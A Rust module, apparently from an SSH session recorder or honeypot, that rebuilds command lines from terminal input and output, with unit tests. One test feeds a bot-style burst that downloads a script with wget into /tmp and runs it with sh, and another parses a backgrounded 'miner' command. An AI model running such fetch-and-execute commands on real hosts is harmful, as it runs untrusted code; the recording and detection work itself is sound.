//! One channel's command lines, from its input and output: lines entered at the
//! shell's prompt are commands; lines typed into a running program carry that
//! program's name as their `realm`.
//!
//! Whether the shell is at its prompt is read from the output (the last line ends in
//! `# ` or `$ `, escape sequences aside), sampled when the first key of a line is
//! typed; lines sent in one burst with a command (a paste, a bot's one-write script)
//! are commands too. This is a best effort by nature; the recording stays the ground
//! truth.

use super::line_editor::LineEditor;

/// A command line (or a line typed into a program).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    /// The line as the shell (or program) received it.
    pub input: String,
    /// The program it was typed into, when not the shell.
    pub realm: Option<String>,
    /// Contains input that cannot be reconstructed exactly (tab completion...).
    pub approximate: bool,
}

/// Longest line kept from a channel without a terminal.
const MAX_PLAIN_LINE: usize = 64 << 10;
/// Most lines one channel reports (a script piped into a shell may be long, a binary
/// stream is not text at all).
const MAX_LINES: usize = 100_000;
/// Output kept to look for the prompt.
const MAX_TAIL: usize = 512;

/// Programs whose input lines are commands in their own right.
fn is_shell(program: &str) -> bool {
    matches!(
        program,
        "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" | "busybox" | "rbash" | "su" | "sudo"
    )
}

/// The program a command line runs: its first word's file name, past variable
/// assignments and `exec`, `nohup`, `sudo`-like prefixes.
pub fn program_of(line: &str) -> Option<String> {
    line.split_whitespace()
        .find(|word| !word.contains('=') && !matches!(*word, "exec" | "nohup" | "time" | "env"))
        .map(|word| word.rsplit('/').next().unwrap_or(word).to_owned())
        .filter(|word| !word.is_empty())
}

enum Mode {
    /// A terminal: keystrokes through a line editor.
    Terminal {
        editor: Box<LineEditor>,
        /// Output since the last line break, escape sequences removed.
        tail: String,
        /// In an escape sequence of the output.
        in_escape: EscapeState,
        at_prompt: bool,
        /// Whether the line being typed was started at the prompt.
        line_at_prompt: bool,
    },
    /// No terminal: every input line is a line.
    Plain { line: Vec<u8>, binary: bool },
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum EscapeState {
    None,
    Esc,
    Csi,
    Osc,
}

/// Reconstructs one channel's command lines.
pub struct CommandTracker {
    mode: Mode,
    /// The program running in the foreground (None: the shell itself).
    program: Option<String>,
    lines: usize,
}

impl CommandTracker {
    /// For an interactive shell on a terminal: it starts at its prompt.
    pub fn terminal_shell() -> Self {
        Self::terminal(None)
    }

    /// For a program run on a terminal (`ssh -t host python3`): lines go to it.
    pub fn terminal_program(command: &str) -> Self {
        Self::terminal(program_of(command).filter(|p| !is_shell(p)))
    }

    fn terminal(program: Option<String>) -> Self {
        CommandTracker {
            mode: Mode::Terminal {
                editor: Box::new(LineEditor::new()),
                tail: String::new(),
                in_escape: EscapeState::None,
                at_prompt: false,
                line_at_prompt: false,
            },
            program,
            lines: 0,
        }
    }

    /// For input without a terminal to a shell (`ssh host < script`, `ssh host sh`):
    /// each line is a command.
    pub fn plain_shell() -> Self {
        CommandTracker {
            mode: Mode::Plain {
                line: Vec::new(),
                binary: false,
            },
            program: None,
            lines: 0,
        }
    }

    /// Output the client was shown.
    pub fn output(&mut self, mut bytes: &[u8]) {
        let Mode::Terminal {
            tail,
            in_escape,
            at_prompt,
            ..
        } = &mut self.mode
        else {
            return;
        };
        // Only the end of a large chunk can hold the prompt: a flood costs no more
        // than its last kilobytes.
        if bytes.len() > 4 * MAX_TAIL {
            bytes = &bytes[bytes.len() - 4 * MAX_TAIL..];
            tail.clear();
            *in_escape = EscapeState::None;
        }
        for ch in String::from_utf8_lossy(bytes).chars() {
            *in_escape = match (*in_escape, ch) {
                (EscapeState::None, '\u{1b}') => EscapeState::Esc,
                (EscapeState::None, '\n' | '\r') => {
                    tail.clear();
                    EscapeState::None
                }
                (EscapeState::None, '\u{8}') => {
                    tail.pop();
                    EscapeState::None
                }
                (EscapeState::None, c) if c.is_control() => EscapeState::None,
                (EscapeState::None, c) => {
                    if tail.len() >= MAX_TAIL {
                        tail.remove(0);
                    }
                    tail.push(c);
                    EscapeState::None
                }
                (EscapeState::Esc, '[') => EscapeState::Csi,
                (EscapeState::Esc, ']') => EscapeState::Osc,
                (EscapeState::Esc, _) => EscapeState::None,
                (EscapeState::Csi, c) if ('\u{40}'..='\u{7e}').contains(&c) => EscapeState::None,
                (EscapeState::Csi, _) => EscapeState::Csi,
                (EscapeState::Osc, '\u{7}') => EscapeState::None,
                (EscapeState::Osc, '\u{1b}') => EscapeState::Esc,
                (EscapeState::Osc, _) => EscapeState::Osc,
            };
        }
        *at_prompt = tail.ends_with("# ") || tail.ends_with("$ ");
    }

    /// Input from the client; returns the lines it completed.
    pub fn input(&mut self, bytes: &[u8]) -> Vec<Command> {
        if self.lines >= MAX_LINES {
            return Vec::new();
        }
        let mut found = Vec::new();
        match &mut self.mode {
            Mode::Terminal {
                editor,
                at_prompt,
                line_at_prompt,
                ..
            } => {
                if editor.pending().is_none() {
                    *line_at_prompt = *at_prompt || self.program.is_none() && self.lines == 0;
                }
                let burst_at_prompt = *line_at_prompt;
                for line in editor.feed(bytes) {
                    let realm = if burst_at_prompt {
                        None
                    } else {
                        self.program.clone()
                    };
                    if realm.is_none() {
                        // The shell runs it: it is in the foreground until the prompt
                        // comes back.
                        self.program = program_of(&line.text).filter(|p| !is_shell(p));
                    }
                    found.push(Command {
                        input: line.text,
                        realm,
                        approximate: line.approximate,
                    });
                }
                if !found.is_empty() {
                    *at_prompt = false;
                }
            }
            Mode::Plain { line, binary } => {
                for &byte in bytes {
                    match byte {
                        b'\n' => {
                            let text = std::mem::take(line);
                            if !*binary && !text.iter().all(u8::is_ascii_whitespace) {
                                let text = String::from_utf8_lossy(&text);
                                found.push(Command {
                                    input: text.trim_end_matches('\r').to_owned(),
                                    realm: None,
                                    approximate: false,
                                });
                            }
                            *binary = false;
                        }
                        0 => *binary = true,
                        _ if line.len() < MAX_PLAIN_LINE => line.push(byte),
                        _ => {}
                    }
                }
            }
        }
        found.truncate(MAX_LINES - self.lines);
        self.lines += found.len();
        found
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PROMPT: &[u8] = b"\x1b[?2004hroot@web-prod-01:~# ";

    fn inputs(t: &mut CommandTracker, bytes: &[u8]) -> Vec<(String, Option<String>)> {
        t.input(bytes)
            .into_iter()
            .map(|c| (c.input, c.realm))
            .collect()
    }

    #[test]
    fn commands_at_the_prompt_and_lines_into_a_program() {
        let mut t = CommandTracker::terminal_shell();
        t.output(b"Linux web-prod-01 6.1.0-18-amd64\r\n");
        t.output(PROMPT);
        assert_eq!(inputs(&mut t, b"python3\r"), [("python3".into(), None)]);
        t.output(b"\x1b[?2004l\r\r\nPython 3.11.2\r\n>>> ");
        assert_eq!(
            inputs(&mut t, b"print(1)\r"),
            [("print(1)".into(), Some("python3".into()))]
        );
        t.output(b"print(1)\r\n1\r\n>>> ");
        assert_eq!(
            inputs(&mut t, b"exit()\r"),
            [("exit()".into(), Some("python3".into()))]
        );
        t.output(PROMPT);
        assert_eq!(inputs(&mut t, b"id\r"), [("id".into(), None)]);
    }

    #[test]
    fn a_burst_of_lines_is_all_commands() {
        let mut t = CommandTracker::terminal_shell();
        t.output(PROMPT);
        let got = inputs(&mut t, b"cd /tmp\nwget http://x/a.sh\nsh a.sh\n");
        assert_eq!(
            got,
            [
                ("cd /tmp".into(), None),
                ("wget http://x/a.sh".into(), None),
                ("sh a.sh".into(), None)
            ]
        );
    }

    #[test]
    fn keystrokes_one_at_a_time_with_echo() {
        let mut t = CommandTracker::terminal_shell();
        t.output(PROMPT);
        for &b in b"uname -a" {
            assert!(t.input(&[b]).is_empty());
            t.output(&[b]);
        }
        assert_eq!(inputs(&mut t, b"\r"), [("uname -a".into(), None)]);
    }

    #[test]
    fn the_first_line_counts_before_any_prompt_was_seen() {
        // A bot that types before the MOTD and prompt arrive.
        let mut t = CommandTracker::terminal_shell();
        assert_eq!(inputs(&mut t, b"uname -a\r"), [("uname -a".into(), None)]);
    }

    #[test]
    fn a_terminal_program_gets_the_lines() {
        let mut t = CommandTracker::terminal_program("/usr/bin/python3 -i");
        t.output(b">>> ");
        assert_eq!(
            inputs(&mut t, b"import os\r"),
            [("import os".into(), Some("python3".into()))]
        );
        let mut t = CommandTracker::terminal_program("bash");
        assert_eq!(inputs(&mut t, b"ls\r"), [("ls".into(), None)]);
    }

    #[test]
    fn plain_input_to_a_shell_is_one_command_per_line() {
        let mut t = CommandTracker::plain_shell();
        assert!(t.input(b"echo a\nuna").len() == 1);
        assert_eq!(
            inputs(&mut t, b"me -a\r\n\n  \n"),
            [("uname -a".into(), None)]
        );
        assert!(t.input(b"\x00\x01binary\n").is_empty());
        assert_eq!(t.input(b"ok\n").len(), 1);
    }

    #[test]
    fn a_flood_then_the_prompt() {
        let mut t = CommandTracker::terminal_shell();
        t.output(PROMPT);
        assert_eq!(
            inputs(&mut t, b"cat big.log\r"),
            [("cat big.log".into(), None)]
        );
        t.output(&vec![b'x'; 1 << 20]);
        t.output(b"\r\nroot@web-prod-01:~# ");
        assert_eq!(inputs(&mut t, b"id\r"), [("id".into(), None)]);
    }

    #[test]
    fn program_names() {
        assert_eq!(program_of("LANG=C /usr/bin/top -b"), Some("top".into()));
        assert_eq!(program_of("nohup ./miner &"), Some("miner".into()));
        assert_eq!(program_of("   "), None);
    }
}
